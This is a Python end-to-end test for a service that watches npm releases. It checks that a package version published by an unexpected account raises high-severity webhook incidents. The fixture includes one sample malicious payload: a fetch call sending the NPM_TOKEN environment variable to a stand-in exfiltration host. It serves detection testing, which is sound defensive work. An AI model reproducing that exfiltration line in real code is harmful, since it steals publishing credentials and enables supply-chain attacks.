"""expect.publishers end to end: `watcher run` following a real Verdaccio (which keeps `_npmUser`
as the publish sent it; the npm CLI's own publishes carry none, so those decide nothing), a real
Standard Webhooks receiver: the expected account is quiet, another account pages
`publisher-unexpected` (high) at once, with the release's medium what-changed finding raised to
high beside it."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from npm_servers import Verdaccio
from service_harness import publish, start_config, unique, wait_release

from tests.receivers import Receiver

pytestmark = pytest.mark.asyncio(loop_scope="session")


def opened(receiver: Receiver) -> list[dict[str, Any]]:
    return [r.json()["data"] for r in receiver.requests if r.json()["type"] == "incident.opened"]


def by(verdaccio: Verdaccio, name: str, version: str, who: str, code: bytes = b"1;\n") -> None:
    verdaccio.publish_raw(
        name,
        version,
        files={"index.js": code},
        extra={"_npmUser": {"name": who, "email": f"{who}@example.invalid"}},
    )


async def test_unexpected_publisher_pages_and_the_expected_one_is_quiet(
    verdaccio: Verdaccio, hook: tuple[Receiver, str], tmp_path: Path
) -> None:
    receiver, secret = hook
    name = unique("publishers")
    state = tmp_path / "state.db"
    await asyncio.to_thread(by, verdaccio, name, "1.0.0", "alice")
    service = start_config(
        tmp_path, webhook_url=receiver.url, secret=secret, npm_url=verdaccio.url, packages=[name]
    )
    text = service.config.read_text()
    expect = json.dumps(["alice", "GitHub Actions"])
    service.config.write_text(
        text.replace("  team:\n", f"  team:\n    expect: {{publishers: {expect}}}\n", 1)
    )
    service.start()
    try:
        await service.wait_ready()
        await wait_release(state, name, "1.0.0")
        await asyncio.to_thread(by, verdaccio, name, "1.1.0", "alice")
        await wait_release(state, name, "1.1.0")
        await publish(verdaccio, name, "1.1.1")  # the npm CLI: no _npmUser, nothing to judge
        await wait_release(state, name, "1.1.1")
        evil = b"fetch('https://collect.exfil.example.io/x?t=' + process.env.NPM_TOKEN);\n"
        await asyncio.to_thread(by, verdaccio, name, "1.2.0", "mallory", evil)
        await receiver.wait_for(1, within=40)
        [page] = opened(receiver)
        assert page["version"] == "1.2.0"
        rules = {f["rule"]: f for f in page["findings"]}
        assert rules["publisher-unexpected"]["severity"] == "high"
        assert "mallory" in rules["publisher-unexpected"]["message"]
        assert rules["endpoint-added"]["severity"] == "high"  # raised beside the origin finding
        assert "collect.exfil.example.io" in rules["endpoint-added"]["message"]
        await asyncio.sleep(1.5)
        assert [p["version"] for p in opened(receiver)] == ["1.2.0"]
        receiver.assert_valid()
    finally:
        service.ensure_stopped()
